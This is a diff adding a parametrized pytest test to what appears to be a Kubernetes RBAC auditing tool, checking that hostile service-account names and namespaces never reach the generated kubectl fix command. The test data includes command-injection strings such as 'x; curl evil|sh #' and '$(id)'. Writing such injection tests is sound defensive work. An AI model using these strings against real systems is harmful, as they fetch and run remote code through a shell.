@@ -113,6 +113,24 @@ def test_the_command_is_for_the_account_that_the_relay_has() -> None:
     assert fix(cluster_role([], [])[1]) == fix() == "hawse admin cluster rbac prod | kubectl apply -f -"
 
 
+@pytest.mark.parametrize("hostile", ["x; curl evil|sh #", "$(id)", "x\n", "-x", "a.b", ""])
+@pytest.mark.parametrize("field", ["namespace", "name"])
+def test_no_text_of_a_cluster_gets_into_the_command(field: str, hostile: str) -> None:
+    role, binding = applied()
+    subject = {"kind": "ServiceAccount", "namespace": "tools", "name": "other", field: hostile}
+    enrolled = attrs.evolve(ENROLLED, users=frozenset({"agent:new"}))
+    findings = examine(enrolled, [{**binding, "subjects": [subject]}], role)
+    commands = {finding.fix for finding in findings if "hawse admin" in finding.fix}
+    assert commands == {"hawse admin cluster rbac prod | kubectl apply -f -"}
+    assert any("not one that a relay is set up with" in message for message in todo(findings))
+    # One that is plain is what the command is for, wherever it stands.
+    both = [subject, {"kind": "ServiceAccount", "namespace": "tools", "name": "other"}]
+    [missing, *_] = examine(enrolled, [{**binding, "subjects": both}], role)
+    assert missing.fix == (
+        "hawse admin cluster rbac prod --namespace tools --service-account other | kubectl apply -f -"
+    )
+
+
 def test_too_much_is_a_warning() -> None:
     role, binding = applied(wildcard=True)
     assert "system:masters too" in todo(examine(ENROLLED, [binding], role))[0]
